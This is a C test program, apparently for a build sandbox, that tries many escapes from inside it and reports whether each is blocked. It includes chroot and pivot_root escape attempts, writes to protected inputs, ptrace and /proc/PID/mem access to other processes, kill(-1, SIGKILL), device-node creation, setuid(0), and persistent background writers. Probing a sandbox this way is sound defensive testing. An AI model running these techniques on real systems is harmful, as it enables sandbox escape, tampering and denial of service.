/* Attacks from inside a sandbox: "attack NAME [ARGUMENTS]". Answers are lines "what errno". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *name, long result) {
  printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "OK");
  fflush(stdout);
}
#define T(name, call) (errno = 0, say(name, (long)(call)))

static void path_of(char *buffer, const char *directory, const char *name) {
  snprintf(buffer, 4096, "%s/%s", directory, name);
}

/* Row 3: every way to change what lies in an input that modes would let us change. */
static void change_input(const char *input) {
  char file[4096], fresh[4096];
  path_of(file, input, "file");
  path_of(fresh, input, "fresh");
  int fd = open(file, O_RDONLY), directory = open(input, O_RDONLY | O_DIRECTORY);
  int flags = 0;
  struct timespec times[2] = {{1, 0}, {1, 0}};
  T("open_write", open(file, O_WRONLY));
  T("open_read_write", open(file, O_RDWR));
  T("open_append", open(file, O_WRONLY | O_APPEND));
  T("open_truncate", open(file, O_RDONLY | O_TRUNC));
  T("reopen_write", ({ char link[64]; snprintf(link, 64, "/proc/self/fd/%d", fd); open(link, O_WRONLY); }));
  T("create", open(fresh, O_WRONLY | O_CREAT, 0600));
  T("create_unnamed", open(input, O_WRONLY | O_TMPFILE, 0600));
  T("truncate", truncate(file, 0));
  T("chmod", chmod(file, 0600));
  T("fchmod", fchmod(fd, 0600));
  T("fchmodat2", syscall(452, directory, "file", 0600, 0));
  T("chmod_directory", chmod(input, 0700));
  T("chown", chown(file, getuid(), getgid()));
  T("fchown", fchown(fd, getuid(), getgid()));
  T("rename", rename(file, fresh));
  T("rename_over", ({ close(open("mine", O_WRONLY | O_CREAT, 0600)); rename("mine", file); }));
  T("exchange", syscall(SYS_renameat2, AT_FDCWD, "mine", AT_FDCWD, file, 2));
  T("link_within", link(file, fresh));
  T("link_out", link(file, "stolen"));
  T("unlink", unlink(file));
  T("rmdir", rmdir(({ static char sub[4096]; path_of(sub, input, "sub"); sub; })));
  T("mkdir", mkdir(fresh, 0700));
  T("symlink", symlink("x", fresh));
  T("mkfifo", mkfifo(fresh, 0600));
  T("whiteout", mknod(fresh, S_IFCHR, 0));
  T("utimes", utimensat(AT_FDCWD, file, times, 0));
  T("futimes", futimens(fd, times));
  T("set_flags", ioctl(fd, 0x40086602, &flags));
  T("map_write", mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
  T("remount", mount("", input, "", MS_REMOUNT | MS_BIND, 0));
  T("bind_socket", ({
      struct sockaddr_un at = {.sun_family = AF_UNIX};
      snprintf(at.sun_path, sizeof at.sun_path, "%.90s", fresh);
      bind(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&at, sizeof at);
  }));
  close(fd);
  close(directory);
}

static int write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  int result = fd < 0 || write(fd, text, strlen(text)) < 0 ? -1 : 0;
  close(fd);
  return result;
}

/* Root of a user and mount namespace of our own, as any builder may become. */
static int nested(void) {
  char map[64];
  int uid = getuid(), gid = getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) return -1;
  snprintf(map, 64, "0 %d 1", uid);
  if (write_file("/proc/self/uid_map", map) < 0) return -1;
  write_file("/proc/self/setgroups", "deny");
  snprintf(map, 64, "0 %d 1", gid);
  return write_file("/proc/self/gid_map", map);
}

static void compare_with_root(const char *name, const char *path, struct stat *root) {
  struct stat here;
  if (stat(path, &here) < 0) printf("%s %s\n", name, strerrorname_np(errno));
  else printf("%s %s\n", name,
              here.st_dev == root->st_dev && here.st_ino == root->st_ino ? "inside" : "OUTSIDE");
  fflush(stdout);
}

/* Row 8: the ways out of a root that have worked somewhere. */
static void escape(void) {
  struct stat root;
  stat("/", &root);
  int kept = open(".", O_RDONLY | O_DIRECTORY), top = open("/", O_RDONLY | O_DIRECTORY);
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
  compare_with_root("up", ".", &root);
  compare_with_root("root_of_self", "/proc/self/root/..", &root);
  compare_with_root("root_of_first", "/proc/1/root/../..", &root);
  compare_with_root("cwd_of_first", "/proc/1/cwd/../../..", &root);
  T("nested", nested());
  T("mkdir", mkdir("/build/jail", 0700));
  T("chroot", chroot("/build/jail"));
  fchdir(kept);
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
  compare_with_root("chroot_and_kept", ".", &root);
  fchdir(top);
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
  T("chroot_back", chroot("."));
  compare_with_root("second_chroot", "/", &root);
}

/* Row 8: a root of our own in place of the sandbox's, to see what lies under that. */
static void pivot(void) {
  struct stat root;
  stat("/", &root);
  int top = open("/", O_RDONLY | O_DIRECTORY);
  T("nested", nested());
  T("jail", mkdir("/build/jail", 0700));
  T("tmpfs", mount("x", "/build/jail", "tmpfs", 0, 0));
  T("old", mkdir("/build/jail/old", 0700));
  T("pivot", syscall(SYS_pivot_root, "/build/jail", "/build/jail/old"));
  chdir("/old");
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
  compare_with_root("below_new", "/old", &root);
  T("detach_old", umount2("/old", MNT_DETACH));
  T("detach_root", umount2("/", MNT_DETACH));
  fchdir(top);
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
  compare_with_root("detached", ".", &root);
}

/* Row 18: prints what can be opened for writing below a directory; nothing is written. */
static void find_writable(const char *top) {
  DIR *directory = opendir(top);
  struct dirent *entry;
  if (directory == NULL) return;
  while ((entry = readdir(directory)) != NULL) {
    char path[4096];
    struct stat status;
    if (entry->d_name[0] == '.' && strchr("./", entry->d_name[1]) != NULL) continue;
    path_of(path, top, entry->d_name);
    if (lstat(path, &status) < 0 || S_ISLNK(status.st_mode)) continue;
    if (S_ISDIR(status.st_mode)) {
      find_writable(path);
      continue;
    }
    if (S_ISFIFO(status.st_mode)) continue;
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    if (fd >= 0) {
      printf("%s\n", path);
      close(fd);
    }
  }
  closedir(directory);
}

/* Row 53: objects with well-known keys; "make" leaves them behind, "look" finds none. */
static void ipc(const char *what) {
  int flags = strcmp(what, "make") ? 0 : IPC_CREAT | 0666;
  T("shm", shmget(0x4e6978, 4096, flags));
  T("sem", semget(0x4e6978, 1, flags));
  T("msg", msgget(0x4e6978, flags));
  T("posix", open("/dev/shm/nix", flags ? O_CREAT | O_RDWR : O_RDWR, 0666));
  struct stat status;
  T("mqueue", stat("/dev/mqueue", &status));
}

/* Rows 54, 55: every process that a number could stand for. */
static void hunt(const char *pid_text) {
  int pid = atoi(pid_text);
  char path[64];
  T("kill", kill(pid, 0));
  T("pidfd", syscall(434, pid, 0));
  T("ptrace", ptrace(PTRACE_ATTACH, pid, 0, 0));
  struct iovec here = {path, 1}, there = {(void *)0x400000, 1};
  T("readv", syscall(SYS_process_vm_readv, pid, &here, 1, &there, 1, 0));
  T("prlimit", syscall(SYS_prlimit64, pid, 0, 0, 0));
  T("setpriority", syscall(SYS_setpriority, 0, pid, 19));
  snprintf(path, 64, "/proc/%d/mem", pid);
  T("mem", open(path, O_RDWR));
  kill(-1, SIGKILL);
  T("kill_all", 0);
}

/* Row 7: devices, which even where they can be made must not work. */
static void nodes(const char *directory) {
  char path[4096];
  path_of(path, directory, "node");
  T("mem", mknod(path, S_IFCHR | 0666, makedev(1, 1)));
  T("null", mknod(path, S_IFCHR | 0666, makedev(1, 3)));
  T("disk", mknod(path, S_IFBLK | 0666, makedev(8, 0)));
  T("whiteout", mknod(path, S_IFCHR | 0666, 0));
  T("open_whiteout", open(path, O_RDONLY | O_NONBLOCK));
  unlink(path);
}

/* Row 66: other ids. */
static void ids(void) {
  T("setuid_0", setuid(0));
  T("setuid_next", setuid(getuid() + 1));
  T("setresuid", setresuid(getuid(), 1, getuid()));
  T("setgid_0", setgid(0));
  T("setgroups", syscall(SYS_setgroups, 1, (gid_t[]){0}));
  T("setfsuid", (syscall(SYS_setfsuid, 0), syscall(SYS_setfsuid, -1) == 0 ? 0 : (errno = EPERM, -1)));
}

static void write_for_ever(const char *path, const char *how) {
  if (!strcmp(how, "mapped")) {
    int fd = open(path, O_RDWR);
    volatile char *map = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    for (;;) map[0] = 'E';
  }
  for (;;) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0 && write(fd, "EVIL", 4) < 0) usleep(1);
    close(fd);
    usleep(100);
  }
}

/* Rows 65, 67, 159: leaves a process behind, as firmly as it can, that writes to a file. */
static void leave(const char *path, const char *how) {
  int ready[2];
  char byte;
  if (pipe(ready) < 0) exit(1);
  if (fork() == 0) {
    setsid();
    if (fork() != 0) _exit(0);
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    for (int fd = 3; fd < 256; fd++) if (fd != ready[1]) close(fd);
    int child = 0;
    if (!strcmp(how, "traced") && (child = fork()) == 0) {
      ptrace(PTRACE_TRACEME, 0, 0, 0);
      raise(SIGSTOP);
    } else if (!strcmp(how, "vforked")) {
      if (syscall(SYS_vfork) != 0) _exit(0);
    } else if (!strcmp(how, "stopped") && fork() == 0) {
      raise(SIGSTOP);
    }
    if (write(ready[1], "x", 1) < 0) _exit(1);
    if (child) for (;;) pause();
    write_for_ever(path, how);
  }
  if (read(ready[0], &byte, 1) < 0) exit(1);
}

/* Rows 77, 90: a chain of directories, each with some files; the last levels closed. */
static void deep(const char *top, const char *levels, const char *files) {
  if (chdir(top) < 0) exit(1);
  for (int level = atoi(levels); level > 0; level--) {
    for (int file = atoi(files); file > 0; file--) {
      char name[32];
      snprintf(name, 32, "f%d", file);
      close(open(name, O_WRONLY | O_CREAT, 0));
    }
    if (mkdir("d", 0777) < 0 || chdir("d") < 0) exit(1);
  }
  chmod(".", 0);
}

/* Row 91: many entries in one directory. */
static void many(const char *top, const char *count) {
  if (chdir(top) < 0) exit(1);
  for (int number = atoi(count); number > 0; number--) {
    char name[32];
    snprintf(name, 32, "%d", number);
    if (mknod(name, S_IFREG | 0444, 0) < 0) exit(1);
  }
}

int main(int argc, char **argv) {
  const char *name = argc > 1 ? argv[1] : "";
  umask(0);
  if (!strcmp(name, "input")) {
    change_input(argv[2]);
    T("nested", nested());
    change_input(argv[2]);
  }
  else if (!strcmp(name, "escape")) escape();
  else if (!strcmp(name, "pivot")) pivot();
  else if (!strcmp(name, "writable")) find_writable(argv[2]);
  else if (!strcmp(name, "ipc")) ipc(argv[2]);
  else if (!strcmp(name, "hunt")) hunt(argv[2]);
  else if (!strcmp(name, "nodes")) nodes(argv[2]);
  else if (!strcmp(name, "ids")) ids();
  else if (!strcmp(name, "leave")) leave(argv[2], argv[3]);
  else if (!strcmp(name, "deep")) deep(argv[2], argv[3], argv[4]);
  else if (!strcmp(name, "many")) many(argv[2], argv[3]);
  else return 2;
  return 0;
}
